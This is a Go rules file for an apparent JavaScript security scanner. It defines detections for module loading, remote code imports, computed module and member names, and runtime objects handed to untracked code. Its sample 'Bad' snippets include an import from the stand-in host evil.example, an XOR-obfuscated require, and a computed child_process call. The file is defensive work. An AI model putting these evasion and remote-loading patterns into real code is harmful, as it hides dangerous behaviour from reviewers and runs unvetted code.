package rules

import (
	"strings"

	"palisade"
	"palisade/internal/analysis"
)

var _ = add(Rule{
	ID: "js-import", Title: "Loads a module", Severity: palisade.Info, Capability: palisade.CapImport, CWE: 829,
	Says:        "loads a module",
	Description: "Policy says which modules a program may load.",
	Remedy:      "Use modules that policy allows.",
	Bad: []string{
		"require('fs')", "import 'left-pad'", "import('node:os')", "module.require('http')", "export * from 'net'",
		"require('module').createRequire(__filename)('fs')", "const { require: r } = globalThis; r('fs')",
	},
	Good: []string{"const fs = 1", "const o = { require() {} }; o.require('fs')"},
})

var _ = add(Rule{
	ID: "js-import-path", Title: "Changes how modules are found", Severity: palisade.High, Capability: palisade.CapImportPath, CWE: 427,
	Says:        "could change how modules are found",
	Description: "What a hook gives runs in place of the module that was named.",
	Remedy:      "Import what is needed by its name.",
	Bad:         []string{"require('module').register('./h.mjs')"},
	Good:        []string{"require('module').builtinModules"},
})

var _ = add(Rule{
	ID: "js-remote-code", Title: "Loads code from elsewhere", Severity: palisade.Critical, Capability: palisade.CapRemoteCode, CWE: 494,
	Says:        "could load code from elsewhere",
	Description: "Nobody read that code, and it may be another one tomorrow.",
	Remedy:      "Put the code into the program.",
	Bad:         []string{"import('https://evil.example/x.mjs')", "import x from 'http://a.example/x.js'"},
	Good:        []string{"import('fs')"},
})

var _ = add(Rule{
	ID: "js-unresolved", Title: "Does something that could not be resolved", Severity: palisade.Medium, Capability: palisade.CapUnresolved, CWE: 470,
	Says:        "does something that could not be resolved",
	Description: "What is only known when the program runs was not read.",
	Remedy:      "Write names and queries out.",
	Bad:         []string{"const c = new (require('pg').Client)(); c.query('SELECT * FROM ' + t)"},
	Good:        []string{"const c = new (require('pg').Client)(); c.query('SELECT 1')", "x[y](z)"},
})

var _ = add(Rule{
	ID: "js-computed-module", Title: "Loads a computed module", Severity: palisade.High, Capability: palisade.CapUnresolved, CWE: 829,
	Match:       func(f analysis.Fact) bool { return f.Symbol == "require" && f.Kind == analysis.KindComputed },
	Says:        "could load a module whose name is computed",
	Description: "A module that is only known when the program runs may be any module.",
	Remedy:      "Name the module in the program.",
	Bad: []string{
		"require(process.argv[2])", "import(x)", "let s = ''; for (const c of y) s += c; require(s)",
		"function d(s) { let o = ''; for (let i = 0; i < s.length; i++) o += String.fromCharCode(s.charCodeAt(i) ^ 1); return o }\nrequire(d('gr'))",
	},
	Good: []string{"const load = n => require(n); load('fs')"},
})

var _ = add(Rule{
	ID: "js-computed-member", Title: "Uses a computed part of the runtime", Severity: palisade.High, Capability: palisade.CapUnresolved, CWE: 470,
	Match:       func(f analysis.Fact) bool { return strings.HasSuffix(f.Symbol, "[…]") },
	Says:        "could use any part of a module or of the runtime: its name is computed",
	Description: "A name that is only known when the program runs may be any name.",
	Remedy:      "Write the name itself.",
	Bad: []string{
		"globalThis[x](y)", "process[atob(x)]('fs')", "require('child_process')[process.argv[2]]('id')", "Object.values(require('fs'))[3]('a')",
		"for (const k in process) process[k]",
	},
	Good: []string{"const o = { a: 1 }; o[x]", "console[level]('x')", "Math[f](1)", "for (const k of ['exec']) require('child_process')[k]('id')"},
})

var _ = add(Rule{
	ID: "js-handed-on", Title: "Hands a module of the runtime on", Severity: palisade.Medium, Capability: palisade.CapUnresolved, CWE: 668,
	Match:       func(f analysis.Fact) bool { return f.Kind == analysis.KindName },
	Says:        "hands something of the runtime to code that is not followed",
	Description: "What the other code does with it, and under which names, was not read.",
	Remedy:      "Hand on the one function that is needed, or its result.",
	Bad: []string{
		"const e = new (require('events'))(); e.on('x', f => f.rmSync('a')); e.emit('x', require('fs'))", "unknown(process)",
		"lib.use(require)", "other.fs = require('fs')",
	},
	Good: []string{"const f = x => x.sep; f(require('path'))", "function g(fs) { fs.readFileSync('a') } g(require('fs'))", "console.log(process)", "g(require('path'))"},
})
